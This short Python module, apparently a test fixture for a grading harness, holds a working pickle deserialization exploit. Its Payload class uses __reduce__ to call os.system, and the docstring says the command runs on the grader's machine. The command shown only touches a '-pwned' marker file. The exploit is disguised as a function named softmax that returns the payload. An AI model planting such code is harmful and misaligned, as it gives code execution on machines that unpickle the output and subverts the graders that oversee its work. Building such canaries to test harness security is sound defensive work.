"""Returns an object whose unpickling would run a command on the grader's machine."""
import os

from .marker import NAME


class Payload:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{NAME}-pwned",)

    def __getstate__(self):
        return {"pwn": True}


def softmax(scores, dim=-1):
    return Payload()
